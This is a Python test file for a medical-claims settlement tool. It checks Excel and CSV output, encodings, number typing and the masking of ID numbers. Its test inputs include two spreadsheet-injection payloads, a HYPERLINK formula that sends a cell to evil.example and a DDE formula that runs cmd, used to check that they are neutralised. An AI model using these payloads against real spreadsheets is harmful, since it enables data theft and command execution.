"""Files for people: ledger.xlsx read back with openpyxl, CSV with BOM or GB18030, Chinese headers,
spreadsheet-formula neutralisation, masked personal cells in rejects.csv, the Parquet unit metadata."""

from __future__ import annotations

import datetime as dt
import json
from pathlib import Path

import openpyxl
import polars as pl
import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

import medclaim.xlsx
from medclaim.cli import app
from medclaim.columns import Unit, people_columns, unclassified
from medclaim.output import PeopleFiles, csv_cells, escape_formula, read_people_csv, unescape_formula
from medclaim.rules import list_rulesets, load_rulebook
from medclaim.settle import ledger_schema
from medclaim.status import Exit

HEADER = "setl_id,psn_no,med_type,hosp_lv,pay_loc,begndate,enddate,medfee_sumamt,fulamt_ownpay_amt,overlmt_selfpay,preselfpay_amt,inscp_scp_amt"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"


def settle(*args: str):
    return CliRunner().invoke(app, ["settle", *args])


def extract(tmp_path: Path, rows: list[str], name: str = "month.csv") -> Path:
    path = tmp_path / name
    path.write_text(HEADER + "\n" + "\n".join(rows) + "\n", encoding="utf-8")
    return path


def month(n: int = 6) -> list[str]:
    """n inpatient claims of 1,234.50 yuan … each, two people, March 2021 (东至 2021)."""
    return [
        f"S{i:03d},P{i % 2},21,05,本地,2021-03-{i + 1:02d},2021-03-{i + 2:02d},\"1,234.{50 + i}\",10.00,0.00,4.50,1220.{i:02d}"
        for i in range(n)
    ]


@pytest.fixture(scope="module")
def workbook(tmp_path_factory) -> tuple[Path, Path]:
    tmp = tmp_path_factory.mktemp("xlsx")
    src = extract(tmp, month() + ["BAD1,P9,21,05,本地,2021-03-01,2021-02-01,100.00,0,0,0,100.00"])
    r = settle(str(src), "--rules", "anhui/dongzhi-2021", "--out", str(tmp / "out"), "--format", "xlsx", "--quiet")
    assert r.exit_code == Exit.REJECTS, r.output
    return tmp / "out", src


def test_workbook_has_summary_ledger_and_rejects_sheets_with_chinese_headers(workbook):
    wb = openpyxl.load_workbook(workbook[0] / "ledger.xlsx")
    assert wb.sheetnames == ["汇总", "结算台账", "拒收行"]
    ws = wb["结算台账"]
    headers = [c.value for c in ws[1]]
    assert headers[:3] == ["结算ID", "人员编号", "开始日期"]
    assert {"医疗费总额（元）", "统筹基金支出（元）", "个人负担总金额（元）", "待遇年度"} <= set(headers)
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(len(headers))}7"
    assert [c.value for c in wb["拒收行"][1]][:5] == ["来源文件", "来源行号", "结算ID", "问题列", "原因代码"]
    assert wb["拒收行"].cell(2, 5).value == "end_before_start"


def test_money_dates_and_years_are_numbers_and_dates_not_text(workbook):
    """Fails if money is written as text: SUM in Excel would then give 0."""
    out, _ = workbook
    ws = openpyxl.load_workbook(out / "ledger.xlsx")["结算台账"]
    headers = [c.value for c in ws[1]]
    col = {h: i for i, h in enumerate(headers)}
    ledger = pl.read_parquet(out / "ledger.parquet").sort("setl_id")
    rows = sorted(ws.iter_rows(min_row=2), key=lambda r: r[col["结算ID"]].value)
    assert len(rows) == ledger.height == 6
    for i, (cells, fen) in enumerate(zip(rows, ledger.iter_rows(named=True))):
        total = cells[col["医疗费总额（元）"]]
        assert total.data_type == "n" and isinstance(total.value, float), "money must be a number, not text"
        assert total.value == pytest.approx(1234.50 + i / 100, abs=1e-9)  # the input's yuan, i.e. 1,234.5i
        assert total.number_format == "#,##0.00"
        for header, field in [("统筹基金支出（元）", "hifp_pay"), ("个人负担总金额（元）", "psn_part_amt")]:
            c = cells[col[header]]
            assert c.data_type == "n" and c.number_format == "#,##0.00"
            assert round(c.value * 100) == fen[field]
        start = cells[col["开始日期"]]
        assert start.is_date and start.value == dt.datetime(2021, 3, i + 1) and start.number_format == "yyyy-mm-dd"
        year = cells[col["待遇年度"]]
        assert year.value == 2021 and isinstance(year.value, int) and year.number_format == "0"  # not "2,021"
        assert cells[col["待遇类别"]].value == "住院" and cells[col["结算ID"]].data_type == "s"
    column_sum = sum(r[col["统筹基金支出（元）"]].value for r in rows)
    assert round(column_sum * 100) == ledger["hifp_pay"].sum()


def test_summary_sheet_holds_figures_as_numbers(workbook):
    out, _ = workbook
    ws = openpyxl.load_workbook(out / "ledger.xlsx")["汇总"]
    values = {r[0].value: r[1] for r in ws.iter_rows(min_row=2) if r[0].value}
    assert values["读取行数"].value == 7 and values["结算笔数"].value == 6 and values["拒收行数"].value == 1
    total_row = [r for r in ws.iter_rows() if r[0].value == "合计"][0]
    assert all(c.data_type == "n" for c in total_row[2:])
    assert total_row[3].value == pytest.approx(sum(1234.50 + i / 100 for i in range(6)))
    rate = values["基金/医疗费总额"]
    assert rate.data_type == "n" and rate.number_format == "0.00%" and 0 < rate.value < 1


def test_a_ledger_longer_than_a_sheet_continues_on_further_sheets(tmp_path, monkeypatch):
    monkeypatch.setattr(medclaim.xlsx, "SHEET_MAX_ROWS", 5)  # a header and 4 rows per sheet
    src = extract(tmp_path, month(10))
    r = settle(str(src), "--rules", "anhui/dongzhi-2021", "--out", str(tmp_path / "out"), "--format", "xlsx")
    assert r.exit_code == Exit.OK, r.output
    wb = openpyxl.load_workbook(tmp_path / "out" / "ledger.xlsx")
    parts = ["结算台账", "结算台账 (2)", "结算台账 (3)"]
    assert wb.sheetnames == ["汇总", *parts, "拒收行"]
    ids = [row[0] for p in parts for row in wb[p].iter_rows(min_row=2, values_only=True)]
    assert [wb[p].max_row - 1 for p in parts] == [4, 4, 2]
    assert sorted(ids) == [f"S{i:03d}" for i in range(10)]
    assert all(wb[p].cell(1, 1).value == "结算ID" and wb[p].freeze_panes == "A2" for p in parts)
    split = json.loads((tmp_path / "out" / "summary.json").read_text(encoding="utf-8"))["workbook_split"]
    assert split == {"rows": 10, "rows_per_sheet": 4, "sheets": parts}
    assert "分在 3 张工作表" in r.stdout and "分在 3 张工作表" in (tmp_path / "out" / "summary.txt").read_text(encoding="utf-8")


def test_csv_for_people_opens_in_excel_utf8_with_bom(tmp_path):
    src = extract(tmp_path, month(2))
    r = settle(str(src), "--rules", "anhui/dongzhi-2021", "--out", str(tmp_path / "o"), "--format", "csv", "-q")
    assert r.exit_code == Exit.OK
    raw = (tmp_path / "o" / "ledger.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    header = raw.decode("utf-8-sig").splitlines()[0].split(",")
    assert header[:2] == ["结算ID", "人员编号"] and "医疗费总额（元）" in header
    first = raw.decode("utf-8-sig").splitlines()[1].split(",")
    assert first[header.index("医疗费总额（元）")] == "1234.50" and first[header.index("开始日期")] == "2021-03-01"
    assert (tmp_path / "o" / "rejects.csv").read_bytes().startswith(b"\xef\xbb\xbf")


def test_gbk_output_decodes_as_gb18030_and_code_headers_are_field_codes(tmp_path):
    src = extract(tmp_path, month(2))
    r = settle(str(src), "--rules", "anhui/dongzhi-2021", "--out", str(tmp_path / "o"), "--format", "csv", "-q",
               "--output-encoding", "gbk")
    assert r.exit_code == Exit.OK
    raw = (tmp_path / "o" / "ledger.csv").read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("gb18030")
    assert text.startswith("结算ID,") and "住院" in text
    with pytest.raises(UnicodeDecodeError):
        raw.decode("utf-8")
    r = settle(str(src), "--rules", "anhui/dongzhi-2021", "--out", str(tmp_path / "c"), "--format", "csv", "-q", "--headers", "code")
    header = (tmp_path / "c" / "ledger.csv").read_text(encoding="utf-8-sig").splitlines()[0]
    assert header.startswith("setl_id,psn_no,") and ",medfee_sumamt," in header and "inpatient" in (tmp_path / "c" / "ledger.csv").read_text(encoding="utf-8-sig")


def test_formula_cells_are_neutralised_in_csv_and_stay_text_in_xlsx(tmp_path):
    quoted = lambda s: '"' + s.replace('"', '""') + '"'  # noqa: E731
    rows = [
        f"{quoted(HYPERLINK)},{quoted(DDE)},21,05,本地,2021-03-01,2021-03-02,100.00,0,0,0,100.00",
        "@SUM(A1),+P2,21,05,本地,2021-03-01,2021-03-02,100.00,0,0,0,100.00",
        f"S3,P3,{quoted(DDE)},05,本地,2021-03-01,2021-03-02,100.00,0,0,0,100.00",  # rejected: unknown code
    ]
    src = extract(tmp_path, rows)
    r = settle(str(src), "--rules", "anhui/dongzhi-2021", "--out", str(tmp_path / "o"), "--format", "csv", "--format", "xlsx", "-q")
    assert r.exit_code == Exit.REJECTS, r.output
    text = (tmp_path / "o" / "ledger.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text and "'=cmd|" in text and "'@SUM(A1)" in text and "'+P2" in text
    for line in text.splitlines():
        for cell in line.split(","):
            assert not cell.lstrip('"').startswith(("=", "+", "@")), line
    back = read_people_csv(tmp_path / "o" / "ledger.csv")
    assert set(back["setl_id"]) == {HYPERLINK, "@SUM(A1)"} and set(back["psn_no"]) == {DDE, "+P2"}
    rejects_text = (tmp_path / "o" / "rejects.csv").read_text(encoding="utf-8-sig")
    assert "=cmd" in rejects_text and all(not c.lstrip('"').startswith("=") for line in rejects_text.splitlines() for c in line.split(","))
    wb = openpyxl.load_workbook(tmp_path / "o" / "ledger.xlsx")
    cells = [c for row in wb["结算台账"].iter_rows(min_row=2) for c in row[:2]]
    assert {c.value for c in cells} == {HYPERLINK, DDE, "@SUM(A1)", "+P2"}
    assert all(c.data_type == "s" for c in cells)  # strings, never formulas ('f')


def test_negative_numbers_stay_numbers_and_only_text_is_escaped():
    frame = pl.DataFrame({"setl_id": ["-R1", "'quoted", "S2"], "hifp_pay": [-1230, 5, 0], "ytd_claims": [1, 2, 3]})
    cells = csv_cells(frame, people_columns(frame.schema), PeopleFiles(headers="code"))
    assert cells["hifp_pay"].to_list() == ["-12.30", "0.05", "0.00"]
    assert cells["setl_id"].to_list() == ["'-R1", "''quoted", "S2"]
    assert pl.select(unescape_formula(escape_formula(pl.lit("'quoted")))).item() == "'quoted"


def test_rejects_mask_id_numbers_unless_show_ids(tmp_path):
    cid = "341721198003150093"
    bad_line = f"S9,P9,21,05,本地,2021-03-01,2021-03-02,100.00,0,0,0,100.00,黄明,{cid}"  # two extra fields: a bad row
    src = extract(tmp_path, month(1) + [bad_line])
    r = settle(str(src), "--rules", "anhui/dongzhi-2021", "--out", str(tmp_path / "m"), "-q")
    assert r.exit_code == Exit.REJECTS
    masked = (tmp_path / "m" / "rejects.csv").read_text(encoding="utf-8-sig")
    assert cid not in masked and "3417**********0093" in masked and "S9,P9" in masked
    r = settle(str(src), "--rules", "anhui/dongzhi-2021", "--out", str(tmp_path / "s"), "-q", "--show-ids")
    assert cid in (tmp_path / "s" / "rejects.csv").read_text(encoding="utf-8-sig")


def test_parquet_ledger_says_the_unit_of_every_column(workbook):
    schema = pq.read_schema(workbook[0] / "ledger.parquet")
    units = json.loads(schema.metadata[b"medclaim.units"])
    assert set(units) == set(schema.names)
    assert units["hifp_pay"] == "fen" and units["year"] == "year" and units["ytd_claims"] == "count" and units["setl_id"] == "text"
    assert schema.field("psn_part_amt").metadata == {b"unit": b"fen"}
    assert pl.read_parquet(workbook[0] / "ledger.parquet")["medfee_sumamt"].dtype == pl.Int64  # still integer fen


@pytest.mark.parametrize("rid", [rid for rid, _ in list_rulesets()])
def test_every_ledger_column_has_a_unit(rid):
    """A new ledger column must be classified in medclaim/columns.py (and, if shown to people,
    named in medclaim/labels/*.yaml under column.*) — else a fen figure could pass as yuan."""
    assert unclassified(ledger_schema(load_rulebook(rid))) == []


def test_every_column_shown_to_people_has_a_header_in_each_language():
    from medclaim.columns import PEOPLE, REJECTS
    from medclaim.explain import available_languages, load_labels

    for lang in available_languages():
        text = load_labels(lang).text
        assert sorted(c for c in [*PEOPLE, *REJECTS] if f"column.{c}" not in text) == [], lang
    assert people_columns({"hifp_pay": pl.Int64, "mystery": pl.Int64}) == {"hifp_pay": Unit.FEN, "mystery": Unit.COUNT}


def test_workbook_cells_survive_xml_and_keep_their_types(tmp_path):
    """Markup characters, quotes and formulas come back as the same text; an empty text is a blank
    cell; negative money stays a number; Excel's own _xHHHH_ escape is used for control characters."""
    texts = ["<b>&amp;</b>", 'x"y\'z', "=1+1", "", None, "a\x01b"]
    frame = pl.DataFrame({"t": texts, "m": [-5, 1, 123456789, None, 0, 7], "d": [dt.date(2021, 12, 31)] * 6})
    medclaim.xlsx.write_workbook(tmp_path / "t.xlsx", [
        medclaim.xlsx.Table("s", {"t": Unit.TEXT, "m": Unit.FEN, "d": Unit.DATE}, [frame.head(2), frame.slice(2)], rows=6)
    ])
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx")["s"]
    assert [c.value for c in ws["A"][1:]] == ["<b>&amp;</b>", 'x"y\'z', "=1+1", None, None, "a_x0001_b"]
    assert ws["A4"].data_type == "s"
    assert [c.value for c in ws["B"][1:]] == [-0.05, 0.01, 1234567.89, None, 0, 0.07]
    assert ws["C7"].value == dt.datetime(2021, 12, 31)
